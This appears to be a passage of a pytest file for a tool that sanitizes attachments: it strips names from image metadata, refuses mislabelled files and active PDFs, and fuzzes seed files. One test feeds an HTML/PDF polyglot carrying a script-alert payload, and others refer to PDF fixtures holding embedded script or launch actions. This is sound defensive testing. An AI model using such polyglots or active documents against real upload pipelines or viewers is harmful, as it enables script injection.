    hostile = webp(flags, VP8, webp_chunk(b"EXIF", b"Exif\x00\x00" + exif_naming(3)))
    data = published(tmp_path, "turned.webp", hostile)
    assert NAME.encode() not in data and NAME.encode("utf-16-le") not in data
    assert data[12:16] == b"VP8X" and data[20] == 0x08
    exif = data[data.index(b"EXIF") + 8 :]
    assert exif[:4] == b"MM\x00*" and struct.unpack(">HHIH", exif[10:20]) == (0x0112, 3, 1, 3)


def test_damaged_image_publishes_nothing_past_the_damage(tmp_path: Path) -> None:
    broken = b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", bytes(13))[:-2] + NAME.encode()
    data = published(tmp_path, "broken.png", broken)
    assert NAME.encode() not in data and data.startswith(b"\x89PNG")


# What still passes.


def test_plain_one_page_pdf_is_published_unchanged(tmp_path: Path) -> None:
    plain = document()
    assert published(tmp_path, "plain.pdf", plain) == plain


def test_compressed_pdf_with_fonts_and_pictures_is_published(tmp_path: Path) -> None:
    font = stream(b"/Length1 4 /Filter /FlateDecode", zlib.compress(b"\x00\x01\x00\x00"))
    picture = stream(
        b"/Type /XObject /Subtype /Image /Width 2 /Height 1 /BitsPerComponent 8 "
        b"/ColorSpace /DeviceRGB /Filter /FlateDecode",
        zlib.compress(b"/JS /AA /URI"),
    )
    first, data = object_stream({8: b"<< /Type /Annot /Subtype /Link /Dest [3 0 R /Fit] >>"})
    packed = stream(
        b"/Type /ObjStm /N 1 /First %d /Filter /FlateDecode /DecodeParms << /Predictor 12 "
        b"/Columns 5 >>" % first,
        zlib.compress(png_predicted(data, 5)),
    )
    content = zlib.compress(PAGE_TEXT)
    complete = document(
        content, content_entries=b"/Filter /FlateDecode", extra=(font, picture, packed)
    )
    published(tmp_path, "report.pdf", complete)


def test_file_that_is_not_what_its_name_says_is_refused(tmp_path: Path) -> None:
    message = refusal(tmp_path, "page.pdf", b"<html><script>alert(1)</script></html>%PDF-1.7")
    assert "is not a PDF document, whatever its name says" in message


def test_refused_pdf_raises_for_callers_of_the_text() -> None:
    with pytest.raises(Refused):
        pdf_text(ACTIVE_PDFS["launch"])


SEEDS = {
    "pdf": script_in_object_stream(*ENCODINGS["flate-png-predictor"]),
    "png": png_with(PNG_METADATA["eXIf"], PNG_METADATA["zTXt"]),
    "jpg": b"\xff\xd8" + JPEG_METADATA["exif"] + JPEG_PICTURE + b"\xff\xd9",
    "gif": gif(gif_extension(0xFE, b"x"), gif_extension(0xFF, b"NETSCAPE2.0", b"\x01\x00\x00")),
    "webp": webp(webp_chunk(b"VP8X", bytes(10)), VP8, webp_chunk(b"EXIF", exif_naming(6))),
}


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    kind=st.sampled_from(sorted(SEEDS)),
    edits=st.lists(st.tuples(st.integers(0, 10_000), st.binary(max_size=8)), max_size=6),
)
def test_mangled_attachment_is_refused_or_published_never_a_traceback(
    tmp_path_factory: pytest.TempPathFactory, kind: str, edits: list[tuple[int, bytes]]
) -> None:
    data = bytearray(SEEDS[kind])
    for at, replacement in edits:
        at %= len(data) + 1
        data[at : at + len(replacement)] = replacement
    attachment, messages = read(tmp_path_factory.mktemp("fuzz"), f"fuzz.{kind}", bytes(data))
    assert (attachment is None) == bool(messages)
